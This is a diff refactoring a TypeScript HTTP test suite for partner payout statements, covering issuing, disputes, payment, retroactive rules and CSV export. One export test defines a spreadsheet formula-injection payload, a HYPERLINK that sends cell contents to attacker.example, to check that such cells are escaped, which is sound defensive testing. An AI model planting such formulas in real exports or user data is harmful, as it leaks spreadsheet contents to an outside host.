@@ -65,7 +65,6 @@ const software = (amount: string): ProductLine => ({ sku: 'PLATFORM', family: 's
 describe('payout statements over HTTP', () => {
   let ledger: LedgerHarness;
   let last = '0';
-  const ops = () => ledger.auth('ops', 'olga');
   const fiona = () => ledger.auth('finance', 'fiona');
   const frank = () => ledger.auth('finance', 'frank');
   const manager = () => ledger.auth('partner_manager', 'maria');
@@ -85,9 +84,7 @@ describe('payout statements over HTTP', () => {
     last = (await head()).toString();
   }
 
-  async function fund(
-    partnerId: string,
-  ): Promise<{
+  async function fund(partnerId: string): Promise<{
     figures: Record<string, string>;
     claims: Array<{ claimId: string; status: string; statementId: string | null }>;
   }> {
@@ -107,25 +104,11 @@ describe('payout statements over HTTP', () => {
   }
 
   async function publish(document: RuleSetDocument): Promise<void> {
-    track(
-      await ledger.http
-        .post('/rule-sets')
-        .set(ops())
-        .send({ ...document, rationale: `Rules ${document.version}` })
-        .expect(201),
-    );
+    track(await ledger.publish(document));
   }
 
   async function enroll(...partnerIds: string[]): Promise<void> {
-    for (const partnerId of partnerIds) {
-      track(
-        await ledger.http
-          .post('/partners')
-          .set(manager())
-          .send({ partnerId, name: `Partner ${partnerId}`, kind: 'reseller', region: 'EMEA' })
-          .expect(201),
-      );
-    }
+    (await ledger.enroll(...partnerIds)).forEach(track);
   }
 
   async function wonDeal(partnerId: string, dealId: string, wonAt: string, amount: string): Promise<void> {
@@ -168,7 +151,21 @@ describe('payout statements over HTTP', () => {
       .body as StatementBody;
   }
 
-  /** Σ lines = total, each subtotal = Σ lines of its kind, payable/carried forward split the total: exact decimals, never JS numbers. */
+  /** acme wins d1 for 10000.00 under the default rules; Q1 is closed and acme's statement issued on 2026-04-03. */
+  async function issuedQ1ForAcme(): Promise<string> {
+    on('2026-01-02');
+    await publish(ruleSet());
+    await enroll('acme');
+    await wonDeal('acme', 'd1', '2026-01-10', '10000.00');
+    await close('2026-Q1', '2026-04-02');
+    on('2026-04-03');
+    return issue('acme', '2026-Q1');
+  }
+
+  /**
+   * Σ lines = total, each subtotal = Σ lines of its kind, payable/carried forward split the total:
+   * exact decimals, never JS numbers.
+   */
   function expectBalanced(body: StatementBody): void {
     const sum = (lines: StatementLineBody[]) => lines.reduce((total, line) => total.plus(line.amount), new Decimal(0));
     expect(sum(body.lines).toFixed(2)).toBe(body.total);
@@ -197,7 +194,9 @@ describe('payout statements over HTTP', () => {
   });
   afterEach(() => ledger.close());
 
-  it('acceptance: two quarters of deals, a campaign with two milestones and a claim, a statement issued, disputed, resolved, approved by a second user and paid, a clawback and the adjustment on the next one, the export, a rebuild', async () => {
+  // Two quarters of deals, a campaign with two milestones and a claim, a statement issued, disputed, resolved,
+  // approved by a second user and paid, a clawback and the adjustment on the next one, the export, a rebuild.
+  it('acceptance: payout statements end to end', async () => {
     // A program accruing MDF at 10% of won revenue at every tier.
     on('2026-01-02');
     await publish(ruleSet({ mdf: { accrualRates: { registered: '0.10', silver: '0.10', gold: '0.10' } } }));
@@ -340,7 +339,8 @@ describe('payout statements over HTTP', () => {
       'STATEMENT_ALREADY_ISSUED',
     );
 
-    // The partner disputes its d2 line; a partner cannot dispute another partner's line, nor read or export another's statements.
+    // The partner disputes its d2 line; a partner cannot dispute another partner's line,
+    // nor read or export another's statements.
     on('2026-04-05');
     track(
       await ledger.http
@@ -550,7 +550,7 @@ describe('payout statements over HTTP', () => {
     );
   });
 
-  it('escapes CSV cells a spreadsheet would run as formulas (a dispute reason, claim evidence), keeping negative amounts numeric', async () => {
+  it('escapes formula-like CSV cells (a dispute reason, claim evidence), negative amounts stay numeric', async () => {
     const hyperlink = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")';
     on('2026-01-02');
     await publish(ruleSet({ mdf: { accrualRates: { registered: '0.10', silver: '0.10', gold: '0.10' } } }));
@@ -617,7 +617,7 @@ describe('payout statements over HTTP', () => {
     );
   });
 
-  it('a rule set that reaches back after a statement was issued: the next statement adjusts each issued line, linked to it and to the new computation', async () => {
+  it('retroactive rules: the next statement adjusts each issued line, linked to it and the recomputation', async () => {
     on('2026-01-02');
     await publish(ruleSet());
     await enroll('acme');
@@ -698,14 +698,8 @@ describe('payout statements over HTTP', () => {
     expect(issued.reduce((sum, body) => sum.plus(body.total), new Decimal(0)).toFixed(2)).toBe('600.00');
   });
 
-  it('pays once: a retry with the same key replays, another finance user is told it is paid, nothing is written twice', async () => {
-    on('2026-01-02');
-    await publish(ruleSet());
-    await enroll('acme');
-    await wonDeal('acme', 'd1', '2026-01-10', '10000.00');
-    await close('2026-Q1', '2026-04-02');
-    on('2026-04-03');
-    const id = await issue('acme', '2026-Q1');
+  it('pays once: a same-key retry replays, another finance user is told it is paid, nothing is doubled', async () => {
+    const id = await issuedQ1ForAcme();
     track(await ledger.http.post(`/statements/${id}/approve`).set(frank()).expect(200));
     await refused(
       () => ledger.http.post(`/statements/${id}/approve`).set(ledger.auth('finance', 'gina')),
@@ -763,13 +757,7 @@ describe('payout statements over HTTP', () => {
   });
 
   it('refuses what a client may not do, naming the rule or the field, and writes nothing', async () => {
-    on('2026-01-02');
-    await publish(ruleSet());
-    await enroll('acme');
-    await wonDeal('acme', 'd1', '2026-01-10', '10000.00');
-    await close('2026-Q1', '2026-04-02');
-    on('2026-04-03');
-    const id = await issue('acme', '2026-Q1');
+    const id = await issuedQ1ForAcme();
     const line = (await statement(id)).lines[0]!.lineId;
     const post =
       (path: string, body: unknown, as = fiona()) =>
